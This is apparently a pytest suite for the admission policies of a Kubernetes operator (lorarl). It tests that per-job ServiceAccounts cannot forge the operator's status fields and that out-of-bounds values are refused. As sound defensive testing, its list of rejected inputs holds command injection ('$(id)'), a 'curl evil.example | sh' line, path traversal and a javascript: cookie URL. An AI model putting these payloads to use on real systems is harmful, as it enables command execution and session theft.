"""The job cannot forge its own verdict: the chart's ValidatingAdmissionPolicy
(charts/lorarl-operator/templates/admissionpolicy.yaml, rendered by the real helm) on the real
API server, against real TokenRequest tokens of the per-job ServiceAccount.

The oracle is the API server: a forged write is refused (403 with the policy's message) and the
stored status is unchanged; the reporter's own keys still go through, and the shipped reporter
still fills them. The operator's own ServiceAccount is not restricted.
"""

from __future__ import annotations

import contextlib
import json
import ssl
import urllib.error
import urllib.request

import pytest
import yaml
from lorarl.reporter.kubeapi import OWNED_FIELDS

from tests.helpers import apply_job, job, make_job, run_reporter_on_200_rollouts, seed_doc, wait_for
from tests.reporter.reporter_testlib import expected_final_status, without_time

pytestmark = pytest.mark.controlplane

POLICY_KINDS = ("ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding")
DENIED = "is written only by the lorarl operator"
# what the operator writes (lorarl/control/status.py compute) and a forged value for each
FORGED = {
    "phase": "Succeeded",
    "conditions": [{"type": "Succeeded", "status": "True", "reason": "Forged", "message": "", "lastTransitionTime": "2026-01-01T00:00:00Z"}],
    "observedGeneration": 99,
    "rayJob": {"name": "elsewhere", "jobStatus": "SUCCEEDED"},
    "startTime": "2020-01-01T00:00:00Z",
    "completionTime": "2020-01-01T00:00:00Z",
    "gpuAccounting": {"settledHours": 0.0, "pods": []},
    "adapter": {"uri": "s3://elsewhere/adapter"},
}
REPORTER_WRITES = {
    "progress": {"rollout": 3, "total": 100, "percent": 3},
    "metrics": {"step": 3, "rawReward": 0.5},
    "eval": [{"name": "aime24", "latest": 0.25, "latestRollout": 3, "best": 0.25, "bestRollout": 3}],
    "checkpoints": {"latestIteration": 2, "latestPath": "/root/shared_data/job-a/checkpoints/iter_0000002/adapter", "count": 1},
    "tracking": {"wandbRunURL": "https://wandb.ai/team/proj/runs/x"},
}


@contextlib.contextmanager
def chart_policies(helm, control_plane, namespace):
    """The chart's policies for a release in ``namespace`` (release name = namespace, so the
    cluster-scoped names are the test's own). The bindings are confined to this namespace: the
    control plane is shared by the session, and other tests run operators as ServiceAccounts."""
    docs = [d for d in helm.render(namespace=namespace, release=namespace) if d["kind"] in POLICY_KINDS]
    assert sorted(d["kind"] for d in docs) == sorted(POLICY_KINDS * 4), "the chart renders four policies and their bindings"
    for doc in docs:
        if doc["kind"] == "ValidatingAdmissionPolicyBinding":
            doc["spec"]["matchResources"] = {"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": namespace}}}
    text = yaml.safe_dump_all(docs)
    control_plane.kubectl("apply", "-f", "-", input=text)
    try:
        yield docs
    finally:
        control_plane.kubectl("delete", "-f", "-", "--ignore-not-found", input=text)


def patch_status(control_plane, token, namespace, name, status):
    """A merge patch of ``status`` as ``token``: (HTTP code, the API server's message)."""
    req = urllib.request.Request(
        f"{control_plane.server}/apis/lorarl.dev/v1alpha1/namespaces/{namespace}/lorarljobs/{name}/status",
        data=json.dumps({"status": status}).encode(),
        method="PATCH",
        headers={"Authorization": f"Bearer {token}", "Content-Type": "application/merge-patch+json"},
    )
    ctx = ssl.create_default_context(cafile=str(control_plane.ca_file))
    try:
        with urllib.request.urlopen(req, context=ctx, timeout=10) as resp:
            return resp.status, ""
    except urllib.error.HTTPError as err:
        return err.code, json.loads(err.read().decode() or "{}").get("message", "")


def policy_active(control_plane, namespace, kube):
    """Waits until the API server enforces the policy, observed on a probe job of its own.
    Each try writes a phase other than the stored one (an unchanged value is not a change)."""
    probe = make_job(control_plane, namespace, kube, "probe")
    token = control_plane.service_account_token(namespace, f"{probe}-reporter")

    def refused():
        stored = job(kube, namespace, probe)["status"]["phase"]
        forged = "Succeeded" if stored != "Succeeded" else "Failed"
        return patch_status(control_plane, token, namespace, probe, {"phase": forged})[0] == 403

    wait_for(refused, timeout=120, what="the admission policy to be enforced")


def identity_policy_active(control_plane, namespace, op_name):
    """The API server compiles its policies about once a second from what its informers hold, so
    one policy can be enforced before another applied with it: waits, on a server-side dry run,
    until a job under the operator's ServiceAccount is refused. Returns that job."""
    doc = seed_doc()
    doc["metadata"]["name"] = "job-d"
    doc["metadata"]["namespace"] = namespace
    doc["spec"].setdefault("scheduling", {})["serviceAccountName"] = op_name
    text = yaml.safe_dump(doc)
    wait_for(
        lambda: control_plane.kubectl("apply", "--dry-run=server", "-f", "-", input=text, check=False).returncode != 0,
        timeout=120,
        what="the job-identity policy to be enforced",
    )
    return doc


@pytest.fixture
def enforced(helm, control_plane, namespace, kube):
    with chart_policies(helm, control_plane, namespace) as docs:
        policy_active(control_plane, namespace, kube)
        yield docs


def test_job_identity_cannot_forge_the_operators_fields(enforced, control_plane, namespace, kube):
    mine = make_job(control_plane, namespace, kube, "job-a")
    before = job(kube, namespace, mine)["status"]
    assert before["phase"] == "Pending" and before["observedGeneration"] == 1
    token = control_plane.service_account_token(namespace, f"{mine}-reporter")
    for key, value in FORGED.items():
        code, message = patch_status(control_plane, token, namespace, mine, {key: value})
        assert (code, f"status.{key} {DENIED}" in message) == (403, True), (key, code, message)
        if key in before:  # nor delete it
            code, message = patch_status(control_plane, token, namespace, mine, {key: None})
            assert code == 403 and DENIED in message, (key, code, message)
    # hidden among the reporter's keys, too
    code, message = patch_status(control_plane, token, namespace, mine, {**REPORTER_WRITES, "phase": "Succeeded"})
    assert code == 403 and DENIED in message
    # the one operator leaf inside the reporter's progress: the GPU-hours (chargeback) a job may not lower
    code, message = patch_status(control_plane, token, namespace, mine, {"progress": {**REPORTER_WRITES["progress"], "gpuHours": 0.0}})
    assert (code, f"status.progress.gpuHours {DENIED}" in message) == (403, True), (code, message)
    after = job(kube, namespace, mine)["status"]
    assert {k: after.get(k) for k in FORGED} == {k: before.get(k) for k in FORGED}
    assert not set(OWNED_FIELDS) & set(after)


def test_job_identity_may_write_the_reporters_keys_of_its_own_job_only(enforced, control_plane, namespace, kube):
    mine = make_job(control_plane, namespace, kube, "job-a")
    other = make_job(control_plane, namespace, kube, "job-b")
    token = control_plane.service_account_token(namespace, f"{mine}-reporter")
    for key, value in REPORTER_WRITES.items():
        assert patch_status(control_plane, token, namespace, mine, {key: value}) == (200, ""), key
    stored = job(kube, namespace, mine)["status"]
    assert stored["progress"] == REPORTER_WRITES["progress"] and stored["tracking"] == REPORTER_WRITES["tracking"]
    assert stored["phase"] == "Pending"
    # another job's status: refused by RBAC (the per-job Role names one job), even the reporter's keys
    code, message = patch_status(control_plane, token, namespace, other, {"progress": REPORTER_WRITES["progress"]})
    assert code == 403 and "forbidden" in message, message
    assert "progress" not in job(kube, namespace, other)["status"]


def test_a_job_with_its_own_service_account_is_held_to_the_same_keys(enforced, control_plane, namespace, kube):
    """The policy matches every ServiceAccount but the operator's, not a naming pattern."""
    control_plane.ensure_service_account(namespace, "team-runner")
    doc = seed_doc()
    doc["metadata"]["name"] = "job-c"
    doc["spec"].setdefault("scheduling", {})["serviceAccountName"] = "team-runner"
    apply_job(control_plane, namespace, doc)
    from lorarl.control.reconcile import Reconciler

    Reconciler(kube).reconcile(namespace, "job-c")
    token = control_plane.service_account_token(namespace, "team-runner")
    assert patch_status(control_plane, token, namespace, "job-c", {"progress": REPORTER_WRITES["progress"]}) == (200, "")
    code, message = patch_status(control_plane, token, namespace, "job-c", {"phase": "Succeeded"})
    assert code == 403 and DENIED in message


def test_the_operators_service_account_is_not_restricted(enforced, control_plane, namespace, kube):
    """The chart's operator identity keeps writing its fields (its status RBAC given here alone,
    so that this test needs nothing else of the chart)."""
    mine = make_job(control_plane, namespace, kube, "job-a")
    # the operator's account as the chart names it (the job-identity policy refuses it to jobs)
    identity = next(d for d in enforced if d["kind"] == "ValidatingAdmissionPolicy" and d["metadata"]["name"].endswith("-job-identity"))
    op_name = identity["spec"]["validations"][0]["expression"].split("serviceAccountName.orValue('') == '")[1].split("'")[0]
    control_plane.ensure_service_account(namespace, op_name)
    rbac = [
        {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "Role",
            "metadata": {"name": "status-writer", "namespace": namespace},
            "rules": [{"apiGroups": ["lorarl.dev"], "resources": ["lorarljobs/status"], "verbs": ["patch"]}],
        },
        {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "RoleBinding",
            "metadata": {"name": "status-writer", "namespace": namespace},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "status-writer"},
            "subjects": [{"kind": "ServiceAccount", "name": op_name, "namespace": namespace}],
        },
    ]
    control_plane.kubectl("apply", "-f", "-", input=yaml.safe_dump_all(rbac))
    token = control_plane.service_account_token(namespace, op_name)
    wait_for(lambda: patch_status(control_plane, token, namespace, mine, {"phase": "Running"})[0] == 200, what="RBAC for the operator account")
    assert job(kube, namespace, mine)["status"]["phase"] == "Running"


def test_a_job_may_not_run_as_the_operators_service_account(enforced, control_plane, namespace):
    policy = next(d for d in enforced if d["metadata"]["name"].endswith("-job-identity") and d["kind"] == "ValidatingAdmissionPolicy")
    op_name = policy["spec"]["validations"][0]["expression"].split("serviceAccountName.orValue('') == '")[1].split("'")[0]
    doc = identity_policy_active(control_plane, namespace, op_name)
    result = control_plane.kubectl("apply", "-f", "-", input=yaml.safe_dump(doc), check=False)
    assert result.returncode != 0
    assert "a job's pods may not run as the lorarl operator's ServiceAccount" in result.stderr, result.stderr
    doc["spec"]["scheduling"]["serviceAccountName"] = "someone-else"
    control_plane.kubectl("apply", "-f", "-", input=yaml.safe_dump(doc))


def test_the_reporter_still_reports_under_the_policy(enforced, control_plane, namespace, kube, tmp_path):
    mine = make_job(control_plane, namespace, kube, "job-a")
    result, log = run_reporter_on_200_rollouts(control_plane, kube, namespace, mine, tmp_path)
    assert result.returncode == 0, result.stderr.decode()[-2000:]
    assert b"[lorarl-reporter]" not in result.stderr, result.stderr.decode()[-2000:]  # no refused patch
    stored = job(kube, namespace, mine)["status"]
    assert without_time({k: stored[k] for k in ("progress", "metrics", "eval", "checkpoints", "history")}) == expected_final_status(log)
    assert stored["phase"] == "Pending"


# ------------------------------------------------------------- the operator's own bound


def test_the_operator_changes_only_objects_a_lorarljob_controls(enforced, helm, control_plane, namespace, kube):
    """RBAC lets the operator patch any ConfigMap or RayJob in a watched namespace; the policy
    confines it to objects a LoraRLJob controls. The operator runs one reconcile as the chart's
    ServiceAccount with the chart's RBAC: a job named after someone else's RayJob and ConfigMap
    gets ApplyFailed, and those objects are untouched; its own children are applied as usual."""
    from lorarl.job import render
    from lorarl.runtime.kube import Api

    from tests.chart.helm import operator_rbac
    from tests.helpers import job_from

    docs = operator_rbac(helm, namespace, release=namespace, watch_namespaces=[namespace])
    control_plane.kubectl("apply", "-f", "-", input=yaml.safe_dump_all(docs))
    cluster_scoped = [d for d in docs if d["kind"].startswith("Cluster")]
    sa_name = next(d for d in docs if d["kind"] == "ServiceAccount")["metadata"]["name"]
    operator_kube = Api(__import__("kubernetes").config.new_client_from_config(config_file=str(control_plane.restricted_kubeconfig(namespace, sa_name))))
    try:
        # someone else's RayJob and ConfigMap under the names job "victim" renders its children
        doc = seed_doc()
        doc["metadata"]["name"] = "victim"
        doc["metadata"]["namespace"] = namespace
        foreign_rayjob = render.rayjob(job_from(doc))  # no uid: no ownerReference
        foreign_rayjob["metadata"]["labels"] = {"team": "someone-else"}
        foreign_cm = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "victim-lorarl", "namespace": namespace}, "data": {"owner": "someone else"}}
        control_plane.kubectl("apply", "-f", "-", input=yaml.safe_dump_all([foreign_rayjob, foreign_cm]))
        apply_job(control_plane, namespace, doc)
        outcome = wait_for(lambda: _reconciled(operator_kube, namespace, "victim"), what="a reconcile as the operator")
        # the ConfigMap comes first: refused already by OwnerReferencesPermissionEnforcement (no
        # `delete` on configmaps), or by the policy where that plugin is off
        assert outcome.apply_failed and "victim-lorarl" in outcome.apply_failed, outcome.apply_failed
        control_plane.kubectl("delete", "configmap", "victim-lorarl", "-n", namespace)
        outcome = _reconcile_as_the_operator(operator_kube, namespace, "victim")
        # the RayJob (the operator may delete RayJobs, so only the policy stands in the way)
        assert outcome.apply_failed and "RayJob" in outcome.apply_failed, outcome.apply_failed
        # the policy's words stay in the operator's log: the job's status and Event name the object,
        # the status and a sentence of ours, never the other object's text (issue 35, point 6)
        assert ": 403 Forbidden" in outcome.apply_failed and "no LoraRLJob controls" in outcome.apply_failed, outcome.apply_failed
        assert "changes only objects a LoraRLJob controls" not in outcome.apply_failed and "someone-else" not in outcome.apply_failed
        stored = kube.get("ray.io/v1", "RayJob", namespace, "victim")
        assert stored["metadata"]["labels"] == {"team": "someone-else"} and not stored["metadata"].get("ownerReferences")
        assert stored["spec"]["entrypoint"] == foreign_rayjob["spec"]["entrypoint"]
        assert "lorarl-operator" not in json.dumps(stored["metadata"].get("managedFields"))  # no field taken over
        assert job(kube, namespace, "victim")["status"]["phase"] == "Pending"  # the operator's status write is not restricted
        # and a job with no such collision is reconciled into all its children by the same identity
        doc["metadata"]["name"] = "clean"
        apply_job(control_plane, namespace, doc)
        clean = wait_for(lambda: _reconciled(operator_kube, namespace, "clean"), what="a reconcile as the operator")
        assert clean.apply_failed is None and clean.applied == 7
        again = _reconcile_as_the_operator(operator_kube, namespace, "clean")  # updates of owned children pass
        assert again.apply_failed is None and again.applied == 7
    finally:
        control_plane.kubectl("delete", "-f", "-", "--ignore-not-found", input=yaml.safe_dump_all(cluster_scoped))


def _reconcile_as_the_operator(operator_kube, namespace, name):
    """One reconcile as the operator runs it: reading from caches filled the way its watches fill
    them (a LIST of the jobs and of the RayJobs carrying the job label; its RBAC has no `get` on
    RayJobs), writing with the operator's identity."""
    from lorarl.api import types as api
    from lorarl.control.cache import Caches
    from lorarl.control.reconcile import Reconciler
    from lorarl.job import render

    caches = Caches()
    for body in operator_kube.list(api.API_VERSION, api.KIND, namespace):
        caches.jobs.put(body)
    for body in operator_kube.list(render.RAYJOB_API_VERSION, "RayJob", namespace, label_selector=render.JOB_LABEL):
        caches.rayjobs.put(body)
    return Reconciler(operator_kube, caches=caches).reconcile(namespace, name)


def _reconciled(operator_kube, namespace, name):
    from lorarl.runtime.kube import ApiError

    try:
        return _reconcile_as_the_operator(operator_kube, namespace, name)
    except ApiError:  # RBAC just granted may take a moment to be seen
        return None


def eval_entry(name):
    return {"name": name, "latest": 0.25, "latestRollout": 3, "best": 0.25, "bestRollout": 3}


# (what a job identity tries to store, the field the API server's refusal must name): the CRD's
# static bounds (lengths, patterns, list sizes) and the job-status policy's bounds by the spec
def non_finite(**fields):
    return {"metric": "loss", "value": "NaN", "since": 12, "rollout": 14, "streak": 3, **fields}


OUT_OF_BOUNDS = [
    ({"eval": [eval_entry(f"set{i}") for i in range(17)]}, "status.eval"),  # the CRD: at most 16
    ({"eval": [eval_entry("math-500")]}, "status.eval"),  # not a dataset of the spec (aime24 only)
    ({"eval": [eval_entry("x" * 40)]}, "status.eval[0].name"),
    ({"history": {"eval": [{"name": "math-500", "points": [[0, 0.5]]}]}}, "status.history.eval"),
    ({"checkpoints": {"latestPath": "/root/shared_data/job-b/checkpoints/iter_0000002/adapter"}}, "status.checkpoints.latestPath"),  # another job's
    ({"checkpoints": {"latestPath": "/root/shared_data/job-a/checkpoints/../../job-b/checkpoints"}}, "status.checkpoints.latestPath"),
    ({"checkpoints": {"latestPath": "/root/shared_data/job-a/checkpoints/" + "a" * 1024}}, "status.checkpoints.latestPath"),
    ({"checkpoints": {"latestPath": "/root/shared_data/job-a/checkpoints/$(id)"}}, "status.checkpoints.latestPath"),
    ({"tracking": {"wandbRunURL": "javascript:alert(document.cookie)"}}, "status.tracking.wandbRunURL"),
    ({"tracking": {"wandbRunURL": "http://wandb.ai/team/proj/runs/x"}}, "status.tracking.wandbRunURL"),
    ({"tracking": {"wandbRunURL": "https://wandb.ai/" + "x" * 600}}, "status.tracking.wandbRunURL"),
    ({"progress": {"lastUpdateTime": "2026-12-01T10:00:00Z" + " " * 100}}, "status.progress.lastUpdateTime"),
    # the operator's NonFiniteMetric message names the metric and the rollout: never job text
    ({"metrics": {"nonFinite": [non_finite(metric="rollout/raw_reward: see https://evil.example")]}}, "status.metrics.nonFinite[0].metric"),
    ({"metrics": {"nonFinite": [non_finite(value="NaN, run curl evil.example | sh")]}}, "status.metrics.nonFinite[0].value"),
    ({"metrics": {"nonFinite": [non_finite(streak=0)]}}, "status.metrics.nonFinite[0].streak"),
    ({"metrics": {"nonFinite": [non_finite(), non_finite()]}}, "status.metrics.nonFinite[1]"),  # one entry per metric
]


def test_job_identity_writes_only_bounded_values_named_as_the_spec(enforced, control_plane, namespace, kube):
    """Finding 4 of issue 19: with its own token a job stored 3,500 eval entries (728 KB), a
    javascript: URL, unbounded paths. Each is refused now, the field named, the status unchanged."""
    mine = make_job(control_plane, namespace, kube, "job-a")
    token = control_plane.service_account_token(namespace, f"{mine}-reporter")
    before = job(kube, namespace, mine)["status"]
    answers = []
    for status, field in OUT_OF_BOUNDS:
        code, message = patch_status(control_plane, token, namespace, mine, status)
        answers.append((field, code, field in message, message[:160]))
    assert all(code in (403, 422) and named for _, code, named, _ in answers), answers  # 422: the CRD, 403: the policy
    assert job(kube, namespace, mine)["status"] == before
    # within the bounds: admitted
    assert patch_status(control_plane, token, namespace, mine, {"checkpoints": REPORTER_WRITES["checkpoints"]}) == (200, "")
    assert patch_status(control_plane, token, namespace, mine, {"metrics": {"nonFinite": [non_finite()]}}) == (200, "")
